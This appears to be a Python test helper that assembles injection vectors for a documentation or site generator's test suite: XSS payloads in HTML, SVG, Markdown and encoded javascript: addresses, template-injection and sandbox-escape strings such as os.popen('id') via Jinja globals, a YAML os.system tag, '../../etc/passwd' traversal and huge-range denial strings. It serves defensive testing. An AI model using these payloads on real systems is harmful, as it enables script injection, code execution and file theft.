"""What somebody would write who means harm: texts that want to be scripts, addresses, templates or markup.

Our own list follows the categories of the OWASP cheat sheets (script elements, event handlers, addresses, encodings, broken markup, other
languages inside HTML, Markdown); the Big List of Naughty Strings stands beside it in tests/golden.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from functools import cache
from itertools import product
from pathlib import Path
from typing import Final

_NAUGHTY: Final = Path(__file__).parents[1] / "golden" / "blns" / "blns.json"

#: Called by every script below; a test that sees it called has found a hole.
ALARM: Final = "alert(1)"

_ELEMENTS: Final = (
    "<script>{}</script>",
    "<SCRIPT>{}</SCRIPT>",
    "<script\n>{}</script >",
    "<script/x>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<<script>{}//<</script>",
    "<script src=data:,{}></script>",
    "<script src=//example.org/x.js></script>",
    "<script type=module>{}</script>",
    "<svg><script>{}</script></svg>",
    "<svg><script xlink:href=data:,{} /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}></style></mglyph></table></mtext></math>",
    "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<object data=javascript:{}></object>",
    "<object type=text/html data='data:text/html,<script>{}</script>'></object>",
    "<embed src=javascript:{}>",
    "<embed src='data:image/svg+xml,<svg onload={}>'>",
    "<applet code=x archive=//example.org/x.jar></applet>",
    "<base href=//example.org/>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<meta http-equiv=Content-Security-Policy content=''>",
    "<link rel=stylesheet href=//example.org/x.css>",
    "<link rel=import href=//example.org/x.html>",
    "<style>@import '//example.org/x.css';</style>",
    "<style>body{{background:url(//example.org/x)}}</style>",
    "<form action=javascript:{}><button>go</button></form>",
    "<form><button formaction=javascript:{}>go</button></form>",
    "<isindex action=javascript:{} type=image>",
    "<input type=image src=x formaction=javascript:{}>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'></noscript>",
    "<frameset onload={}><frame src=javascript:{}></frameset>",
    "<portal src=//example.org></portal>",
    "<dialog open onclose={}></dialog>",
    "<xmp><script>{}</script></xmp>",
    "<plaintext><script>{}</script>",
    "<textarea autofocus onfocus={}></textarea>",
    "<title></title><script>{}</script>",
    "<svg><foreignObject><script>{}</script></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'></use></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:{} /></svg>",
    "<svg><set attributeName=onmouseover to={} /></svg>",
    "<svg><a xlink:href=javascript:{}><text>x</text></a></svg>",
    "<math href=javascript:{}>x</math>",
    "<math><annotation-xml encoding=text/html><script>{}</script></annotation-xml></math>",
    "<video poster=javascript:{}></video>",
    "<table background=javascript:{}></table>",
    "<div style='width:expression({})'>x</div>",
    "<div style='background-image:url(javascript:{})'>x</div>",
    "<div style=position:fixed;inset:0;background:red>x</div>",
)
_HANDLERS: Final = (
    *("abort", "afterprint", "animationend", "animationstart", "auxclick", "beforecopy", "beforeinput", "beforetoggle", "beforeunload", "blur"),
    *("canplay", "change", "click", "contextmenu", "copy", "cut", "dblclick", "drag", "drop", "ended", "error", "focus", "focusin", "hashchange"),
    *("input", "invalid", "keydown", "keypress", "load", "loadedmetadata", "loadstart", "message", "mousedown", "mouseenter", "mouseover", "paste"),
    *(
        "pageshow",
        "play",
        "pointerdown",
        "pointerenter",
        "pointerrawupdate",
        "resize",
        "reset",
        "scroll",
        "scrollend",
        "search",
        "securitypolicyviolation",
    ),
    *("select", "show", "storage", "submit", "toggle", "touchstart", "transitionend", "unload", "volumechange", "webkitanimationend", "wheel"),
)
_CARRIERS: Final = ("<img src=x {}>", "<details open {}>x</details>", "<svg {}>", "<body {}>", "<input autofocus {}>", "<p {}>x</p>")
_BROKEN: Final = (
    '"><script>{}</script>',
    "'><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "</script><script>{}</script>",
    "</svg><script>{}</script>",
    "</text></svg><img src=x onerror={}>",
    "</td></tr></table><script>{}</script>",
    '" onmouseover={} x="',
    "' onmouseover={} x='",
    "` onmouseover={} x=`",
    '" autofocus onfocus={} x="',
    '"onfocus="{}',
    '" style="x:expression({})',
    "x onerror={} //",
    "<img src=x onerror={}//",
    "<img src=x onerror={} <p>",
    "<img src='x' onerror='{}'",
    '<img """><script>{}</script>">',
    "<img/src=x/onerror={}>",
    "<img\tsrc=x\tonerror={}>",
    "<img\nsrc=x\nonerror={}\n>",
    "<IMG SRC=x ONERROR={}>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=x onerror=\\u0061lert(1)>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "&#x3c;script&#x3e;{}&#x3c;/script&#x3e;",
    "&#0000060script&#0000062{}&#0000060/script&#0000062",
    "%3Cscript%3E{}%3C/script%3E",
    "\\x3cscript\\x3e{}\\x3c/script\\x3e",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "\u02bascript\u02ba{}",
    "<\u017fcript>{}</\u017fcript>",
    "<!--[if gte IE 4]><script>{}</script><![endif]-->",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[<script>{}</script>]]>",
    "<?xml version='1.0'?><script>{}</script>",
    "<!DOCTYPE html [<!ENTITY x '<script>{}</script>'>]>&x;",
    "<![<script>{}</script>",
    "<a href='//example.org' ping='//example.org'>x</a>",
    "<img src=//example.org/pixel.gif>",
    "<img srcset='//example.org/pixel.gif 1x'>",
    "<img src=x usemap=#m><map name=m><area href=javascript:{}></map>",
    "<a id=__config></a><a id=__search></a>",
    "<p id=pb-lifted class=md-search>x</p>",
    '<div class="pb-lifted-0"></div>',
    "\u0002wzxhzdk:0\u0003",
    "\u0002klzzwxh:0001\u0003",
    "STX klzzwxh:0000 ETX wzxhzdk:0",
)
_MARKDOWN: Final = (
    "# x {: onclick={} }",
    "x {: onclick={} .y #z }",
    "{: onmouseover={} }",
    "- x\n{: onclick={} }",
    "**x**{: onclick={} }",
    "`x`{: onclick={} style=position:fixed }",
    "[x](javascript:{})",
    "[x](<javascript:{}>)",
    "[x]( javascript:{} 'y')",
    "[x](data:text/html,<script>{}</script>)",
    "[x](vbscript:{})",
    "[x](//example.org){: target=_blank onclick={} }",
    "[x][y]\n\n[y]: javascript:{}",
    "[y]: javascript:{}\n\n[x][y]",
    "![x](javascript:{})",
    "![x](//example.org/pixel.gif)",
    "![x](x){: onerror={} }",
    '![x"onerror="{}](x)',
    '[x](x "y" onclick="{}")',
    "<javascript:{}>",
    "<data:text/html,{}>",
    "[![x](y)](javascript:{})",
    "```html\n<script>{}</script>\n```",
    "~~~ {{.html onclick={} }}\n~~~",
    "    <script>{}</script>",
    "`<script>{}</script>`",
    '``` mermaid\ngraph TD\nclick A "javascript:{}"\n```',
    "> <script>{}</script>",
    "| <script>{}</script> |\n|---|\n| {} |",
    '!!! note "<script>{}</script>"\n    x',
    '??? note "<img src=x onerror={}>"\n    x',
    '=== "<img src=x onerror={}>"',
    "[^1]: <script>{}</script>",
    "*[HTML]: <script>{}</script>",
    "Term\n: <script>{}</script>",
    "---\ntitle: <script>{}</script>\n---",
    '--8<-- "../../etc/passwd"',
    ';--8<-- "site_config.yml"',
    "<div markdown=1>\n# x {: onclick={} }\n</div>",
    "<p markdown=span>[x](javascript:{})</p>",
    "\\<script>{}\\</script>",
    '<http://example.org/"onclick={}//>',
    'https://example.org/"onclick={}//',
    "$$\\href{{javascript:{}}}{{x}}$$",
    ":fontawesome-brands-github:{: onclick={} }",
    "++ctrl+alt+<script>{}</script>++",
    "==<script>{}</script>== ^^x^^ ~~y~~",
    "[[x|javascript:{}]]",
    "[TOC]",
    "- [x] <input onfocus={} autofocus>",
)
#: Ways of writing an address that a browser could take for a script's.
SCHEMES: Final = (
    "javascript:{}",
    "JavaScript:{}",
    "JAVASCRIPT:{}",
    " javascript:{}",
    "\tjavascript:{}",
    "\njavascript:{}",
    "\x01javascript:{}",
    "\xa0javascript:{}",
    "\u3000javascript:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "java\rscript:{}",
    "java\0script:{}",
    "java&#9;script:{}",
    "java&#x0A;script:{}",
    "java&Tab;script:{}",
    "java&NewLine;script:{}",
    "javascript&colon;{}",
    "javascript&#58;{}",
    "javascript&#x3a;{}",
    "javascript&#0000058{}",
    "&#106;avascript:{}",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{}",
    "&#0000106&#0000097&#0000118&#0000097script:{}",
    "%6aavascript:{}",
    "javascript%3a{}",
    "javascript://example.org/%0a{}",
    "javascript:%61lert(1)",
    "view-source:javascript:{}",
    "feed:javascript:{}",
    "jar:javascript:{}!/",
    "vbscript:{}",
    "livescript:{}",
    "mocha:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={}>",
    "DATA:text/html;charset=utf-7,+ADw-script+AD4-{}",
    "blob:https://example.org/x",
    "File:///x/y",
    "filesystem:https://example.org/x",
    "intent://x#Intent;scheme=javascript;end",
    "\\\\example.org\\x",
    "ftp://example.org/x",
)
#: Texts that a template engine would compute: what comes out must be what went in.
TEMPLATES: Final = (
    *("{{7*7}}", "{{ 7*7 }}", "{{7*'7'}}", "{{- 7*7 -}}", "{{ (7*7)|string }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{=7*7}}", "[[7*7]]", "@(7*7)"),
    *("{% raw %}{{7*7}}{% endraw %}", "{% raw %}", "{% endraw %}", "{%", "%}", "{{", "}}", "{#", "#}", "{# 7*7 #}", "{{ '{{' }}7*7{{ '}}' }}"),
    *("{% if 7*7 == 49 %}yes{% endif %}", "{% for x in range(49) %}x{% endfor %}", "{% set x = 7*7 %}{{ x }}", "{% block content %}x{% endblock %}"),
    *("{% extends 'base.html' %}", "{% include 'partials/page.md.j2' %}", "{% import 'os' as os %}", "{% macro x() %}{% endmacro %}", "{% do 7*7 %}"),
    *(
        "{% autoescape false %}<b>{% endautoescape %}",
        "{% call x() %}{% endcall %}",
        "{% filter upper %}x{% endfilter %}",
        "{% debug %}",
        "{% trans %}x{% endtrans %}",
    ),
    *(
        "{{ config }}",
        "{{ config.items() }}",
        "{{ self }}",
        "{{ self.__init__.__globals__ }}",
        "{{ request.environ }}",
        "{{ organisation }}",
        "{{ page }}",
    ),
    *(
        "{{ lipsum.__globals__ }}",
        "{{ lipsum.__globals__['os'].popen('id').read() }}",
        "{{ cycler.__init__.__globals__.os.environ }}",
        "{{ joiner.__init__ }}",
    ),
    *(
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ [].__class__.__base__ }}",
        "{{ namespace.__init__.__globals__ }}",
        "{{ x|attr('__class__') }}",
    ),
    *(
        "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
        "{{ '%s'|format('x') }}",
        "{{ '{0.__class__}'.format(x) }}",
        "{{ dict(x=1).update }}",
        "{{ undefined_name }}",
    ),
    *("{{ 'a'*300000000 }}", "{{ range(999999999)|list }}", "{{ url_for('x') }}", "{{ get_flashed_messages() }}", "{{ env.from_string('x') }}"),
    *("{{ gettext('x') }}", "%(x)s %s %d {0} {x}", "{{ say('x') }}", "!ENV HOME", "!!python/object/apply:os.system ['id']", "$(id)", "`id`"),
)
#: What an overriding template could try to get out of its sandbox.
ESCAPES: Final = (
    "{{ ''.__class__ }}",
    "{{ ''.__class__.__mro__ }}",
    "{{ ''.__class__.__base__.__subclasses__() }}",
    "{{ [].__class__.__base__ }}",
    "{{ {}.__class__.__init__ }}",
    "{{ ().__class__.__bases__[0] }}",
    "{{ organisation.__class__ }}",
    "{{ organisation.__init__.__globals__ }}",
    "{{ organisation.__dict__ }}",
    "{{ organisation.name.__class__ }}",
    "{{ judgement.__class__.__mro__ }}",
    "{{ library.__init__.__globals__ }}",
    "{{ lipsum.__globals__ }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ cycler.__init__.__globals__ }}",
    "{{ joiner.__init__.__globals__ }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ _.__self__ }}",
    "{{ say.__func__ }}",
    "{{ say.__globals__ }}",
    "{{ chart.__code__ }}",
    "{{ self.__init__.__globals__ }}",
    "{{ self._TemplateReference__context }}",
    "{{ ''|attr('__class__') }}",
    "{{ ''|attr('__cla' ~ 'ss__') }}",
    "{{ ['__class__']|map('attr', '__base__')|list }}",
    "{{ [organisation]|map(attribute='__class__')|list }}",
    "{{ '{0.__class__.__mro__}'.format(organisation) }}",
    "{{ '{x.__class__}'.format_map({'x': organisation}) }}",
    "{{ ''['__class__'] }}",
    "{{ (''|attr)('__class__') }}",
    "{{ ''['format']('').__class__ }}",
    "{{ [].append(1) }}",
    "{% set x = [] %}{{ x.append(organisation) }}",
    "{% set x = {} %}{{ x.update(a=1) }}",
    "{{ plan.actions.clear() }}",
    "{{ plan.actions.sort() }}",
    "{{ teams.pop() }}",
    "{{ (organisation.name.speak).__globals__ }}",
    "{{ as_of.__reduce__() }}",
    "{{ as_of.__class__.today() }}",
    "{{ range(999999999)|list }}",
)


def _filled(vector: str) -> str:
    return vector.replace("{}", ALARM).replace("{{", "{").replace("}}", "}")


@cache
def own() -> tuple[str, ...]:
    """Our own vectors, each once."""
    found: list[str] = [_filled(vector) for vector in (*_ELEMENTS, *_BROKEN, *_MARKDOWN)]
    for number, handler in enumerate(_HANDLERS):
        found.append(_CARRIERS[number % len(_CARRIERS)].format(f"on{handler}={ALARM}"))
    found += [place.replace("{}", address) for address, place in product(addresses(), ("[x]({})", '<a href="{}">x</a>'))]
    return tuple(dict.fromkeys(found))


@cache
def addresses() -> tuple[str, ...]:
    """Addresses with a scheme that no link may have, in the ways of writing them."""
    return tuple(address.replace("{}", ALARM) for address in SCHEMES)


@cache
def naughty() -> tuple[str, ...]:
    """The Big List of Naughty Strings."""
    return tuple(dict.fromkeys(text for text in json.loads(_NAUGHTY.read_text(encoding="utf-8")) if text.strip()))


def vectors() -> tuple[str, ...]:
    """All of them."""
    return tuple(dict.fromkeys((*own(), *naughty())))


def taking_turns(texts: tuple[str, ...], start: int = 0) -> Iterator[str]:
    """The texts for ever, beginning with number `start`."""
    while True:
        yield texts[start % len(texts)]
        start += 1
